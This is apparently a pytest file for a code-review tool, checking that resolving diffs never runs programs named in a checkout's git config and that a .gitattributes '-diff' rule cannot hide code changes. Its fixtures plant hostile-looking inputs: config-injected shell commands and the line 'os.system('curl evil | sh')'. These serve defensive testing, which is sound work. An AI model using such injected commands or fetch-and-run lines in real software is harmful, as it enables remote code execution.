"""A checkout's own git config (an archive, a downloaded repository) must never run a program while
its changes are resolved: not through a partial clone's lazy fetch, not through a submodule's filters."""

from __future__ import annotations

from pathlib import Path

import pytest

from personas.changes import ChangesError, resolve_changes
from tests.review.gitrepo import commit, git, make_repo, write


async def test_a_partial_clone_never_fetches_through_its_config(tmp_path: Path) -> None:
    """`git diff` of a blobless clone fetches the missing blobs from the promisor remote, running the
    `uploadpack` command the clone's .git/config names."""
    source = make_repo(tmp_path / "source", {"app.py": "x = 1\n"})
    write(source, {"app.py": "x = 2\n"})
    commit(source, "second")
    git(source, "config", "uploadpack.allowFilter", "true")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--filter=blob:none", "--no-checkout", source.as_uri(), str(clone))
    marker = tmp_path / "uploadpack-ran"
    git(clone, "config", "remote.origin.uploadpack", f"touch {marker}; git-upload-pack")

    with pytest.raises(ChangesError) as caught:
        await resolve_changes(clone, "HEAD~1..HEAD")

    assert not marker.exists()
    message = str(caught.value)
    assert "partial clone" in message and "never lets git fetch" in message and str(clone) in message


async def test_a_submodules_filters_never_run(tmp_path: Path) -> None:
    """`git diff` of the working tree runs `git status` in each submodule, with the filters of the
    submodule's own config (.git/modules/<name>/config)."""
    sub = make_repo(tmp_path / "subsource", {"a.txt": "a\n", ".gitattributes": "* filter=evil\n"})
    repo = make_repo(tmp_path / "repo", {"app.py": "x = 1\n"})
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(sub), "vendor/sub")
    commit(repo, "submodule")
    marker = tmp_path / "filter-ran"
    config = repo / ".git" / "modules" / "vendor" / "sub" / "config"
    for key in ("clean", "process"):
        git(repo, "config", "-f", str(config), f"filter.evil.{key}", f"sh -c 'touch {marker}; cat'")
    write(repo, {"vendor/sub/a.txt": "b\n", "app.py": "x = 2\n"})

    changes = await resolve_changes(repo, "working")

    assert not marker.exists()
    assert [f.path for f in changes.files] == ["app.py"] and "+x = 2" in changes.diff


@pytest.mark.parametrize("spec", ["main..HEAD", "working"])
async def test_a_change_cannot_hide_its_code_by_marking_it_binary_in_gitattributes(tmp_path: Path, spec: str) -> None:
    """A pull request adding `*.py -diff` to .gitattributes made git show its code change as 'Binary
    files differ': the reviewer saw no line of it. A change that edits .gitattributes is diffed as text,
    and only files holding NUL bytes are binary."""
    repo = make_repo(tmp_path / "repo", {"app.py": "def f():\n    return 1\n", "logo.png": b"\x89PNG\x00\x01"})
    if spec != "working":
        git(repo, "checkout", "-q", "-b", "pr")
    write(
        repo,
        {
            ".gitattributes": "*.py -diff\n*.png binary\n",
            "app.py": "def f():\n    import os; os.system('curl evil | sh')\n    return 1\n",
            "logo.png": b"\x89PNG\x00\x02",
        },
    )
    if spec != "working":
        commit(repo, "pr")
    else:
        git(repo, "add", ".gitattributes")  # tracked from now on, so the working diff shows it too

    changes = await resolve_changes(repo, spec)

    by_path = {f.path: f for f in changes.files}
    assert "os.system('curl evil | sh')" in changes.diff, changes.diff
    assert not by_path["app.py"].binary and by_path["app.py"].ranges, by_path["app.py"]
    assert by_path["logo.png"].binary and "\x00" not in changes.diff
    assert "diff --git a/logo.png b/logo.png\n(a binary file: its content is not shown)" in changes.diff


async def test_binary_attributes_already_accepted_are_kept(tmp_path: Path) -> None:
    """A change that does not touch .gitattributes keeps git's view (a lock file the team marked -diff)."""
    repo = make_repo(tmp_path / "repo", {".gitattributes": "*.lock -diff\n", "deps.lock": "a\n"})
    write(repo, {"deps.lock": "b\n"})
    commit(repo, "lock")
    changes = await resolve_changes(repo, "HEAD~1..HEAD")
    assert [f.binary for f in changes.files] == [True] and "Binary files" in changes.diff
